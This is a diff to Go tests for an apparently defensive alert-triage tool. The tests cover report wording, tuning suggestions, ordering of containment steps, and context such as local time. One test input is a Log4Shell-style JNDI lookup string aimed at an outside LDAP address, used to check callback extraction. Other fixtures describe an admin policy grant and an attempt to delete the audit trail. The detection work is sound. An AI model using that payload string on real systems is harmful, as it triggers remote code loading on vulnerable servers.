@@ -78,7 +78,7 @@ func TestRenderSections(t *testing.T) {
 		// Earlier names: the verdict's reasons are Why, the summary is the
 		// story, the detail sections are counted under links.
 		{[]string{"verdict"}, []string{"**Why**"}, []string{"alice ran", "**Next steps**", "Full report"}},
-		{[]string{"summary", "indicators"}, []string{"alice ran CreateUser bob.", "Evidence: 1 indicator.", "Full report"}, []string{"**Why**", "**Next steps**"}},
+		{[]string{"summary", "indicators"}, []string{"alice ran CreateUser bob.", "Evidence: the alert alone.", "Full report"}, []string{"**Why**", "**Next steps**"}},
 		{[]string{"next"}, []string{"- Delete user bob"}, []string{"**Why**", "alice ran"}},
 	}
 	for _, c := range cases {
@@ -211,6 +211,15 @@ func TestSuggestTuning(t *testing.T) {
 	if tu := SuggestTuning(tuningCase(closedAsExpected("p1"), closedAsExpected("p2"), elsewhere), benign); tu != nil {
 		t.Errorf("counted an alert from another address: %+v", tu)
 	}
+	// An admin grant, an MFA reset, a new key: never filtered, however
+	// often it was expected.
+	risky := tuningCase(closedAsExpected("p1"), closedAsExpected("p2"), closedAsExpected("p3"))
+	risky.Events[0]["eventName"] = "AttachUserPolicy"
+	risky.Events[0]["requestParameters"] = map[string]any{"userName": "qa", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}
+	risky.Digest = NewDigest(risky.Events)
+	if tu := SuggestTuning(risky, benign); tu != nil {
+		t.Errorf("suggested a filter for an admin grant: %+v", tu)
+	}
 	if tu := SuggestTuning(c, Verdict{Label: triage.VerdictSuspicious}); tu != nil {
 		t.Errorf("suggested a filter for a suspicious alert: %+v", tu)
 	}
@@ -238,13 +247,23 @@ func TestNextStepsNameTheObjects(t *testing.T) {
 	r := &Report{Alert: &panther.Alert{ID: "a1"}, Verdict: Verdict{Label: triage.VerdictMalicious}, Digest: NewDigest(events)}
 	Brief(r, nil)
 	text := strings.Join(r.NextSteps, "\n")
-	for _, want := range []string{"Deactivate access key AKIA4Q7XKJ2MEXAMPLE7; delete user backup-svc", "Reset p.novak's sessions and MFA factors", "Escalate to incident response; block 146.70.117.38"} {
+	for _, want := range []string{"Deactivate access key AKIA4Q7XKJ2MEXAMPLE7", "Reset p.novak's sessions and MFA factors", "Then delete user backup-svc", "Escalate to incident response; block 146.70.117.38"} {
 		if !strings.Contains(text, want) {
 			t.Errorf("next steps lack %q:\n%s", want, text)
 		}
 	}
 	if n := len(r.NextSteps); n < 2 || n > 4 {
 		t.Errorf("%d next steps; want 2 to 4", n)
+	}
+	// Contain first, then delete: the key is cut before the user goes.
+	if strings.Index(text, "Deactivate access key") > strings.Index(text, "Then delete user") {
+		t.Errorf("deletes before it contains:\n%s", text)
+	}
+	// A suspicious call asks before it undoes anything.
+	r = &Report{Alert: &panther.Alert{ID: "a1"}, Verdict: Verdict{Label: triage.VerdictSuspicious}, Digest: NewDigest(events)}
+	Brief(r, nil)
+	if len(r.NextSteps) < 2 || !strings.HasPrefix(r.NextSteps[0], "Confirm with p.novak") || !strings.HasPrefix(r.NextSteps[1], "If not confirmed: deactivate access key") {
+		t.Errorf("suspicious: want the confirmation before the access key is cut:\n%s", strings.Join(r.NextSteps, "\n"))
 	}
 }
 
@@ -286,11 +305,46 @@ func TestLinkedLine(t *testing.T) {
 	}}}
 	why := []triage.Finding{{Title: "an alert of another detection, named shares the address"}}
 	got := linkedLine(r, why, 2)
-	want := "Linked alerts: tp (Other, same address; judged a true positive, 2 h after); same-actor (same detection, same actor; judged a false positive, 3 days before); 1 more in the full report."
+	want := "Linked alerts: tp (Other, same address; judged a true positive, 2 h after); same-actor (same detection, same actor; closed as expected, 3 days before); 1 more in the full report."
 	if got != want {
 		t.Errorf("got  %s\nwant %s", got, want)
 	}
 	if linkedLine(r, why, 0) != "" {
 		t.Error("0 linked alerts should write no line")
+	}
+}
+
+func TestStoryContext(t *testing.T) {
+	if got, want := withNetwork("r from 73.162.45.18 (US): attached", "73.162.45.18", "Comcast, US, an ISP"), "r from 73.162.45.18 (Comcast, US, an ISP): attached"; got != want {
+		t.Errorf("withNetwork: got %q, want %q", got, want)
+	}
+	at := time.Date(2026, 3, 10, 21, 36, 0, 0, time.UTC)
+	a := triage.Action{Time: at, SourceIP: "73.162.45.18", Details: map[string]string{"timezone": "America/Los_Angeles"}}
+	if got, want := localTime(a), "14:36 local time at the address, a Tuesday"; got != want {
+		t.Errorf("localTime: got %q, want %q", got, want)
+	}
+	a.Details["timezone"] = "Europe/Zurich"
+	a.Time = time.Date(2026, 4, 2, 2, 11, 0, 0, time.UTC)
+	if got := localTime(a); !strings.HasSuffix(got, ", off-hours") {
+		t.Errorf("04:11 in Zurich is not called off-hours: %q", got)
+	}
+	a.SourceIP = "10.1.2.3"
+	if got := localTime(a); got != "" {
+		t.Errorf("a private address's time zone is someone else's: %q", got)
+	}
+	if got, want := callback("/?x=${jndi:ldap://194.26.192.71:1389/Basic/Command}"), "194.26.192.71:1389"; got != want {
+		t.Errorf("callback: got %q, want %q", got, want)
+	}
+}
+
+func TestWhyLeadsWithTriedDefenceEvasion(t *testing.T) {
+	v := Verdict{Reasons: []triage.Finding{
+		{Kind: "admin_grant", LogOdds: 1.5, Title: "grant"},
+		{Kind: "defense_evasion", LogOdds: 1.25, Title: "DeleteTrail; the attempt failed (AccessDenied)"},
+		{Kind: "login_no_mfa", LogOdds: 0.5, Title: "no MFA"},
+	}}
+	why := whyFindings(v)
+	if len(why) != 3 || why[0].Kind != "defense_evasion" || why[2].Kind != "login_no_mfa" {
+		t.Errorf("why order: %+v", why)
 	}
 }
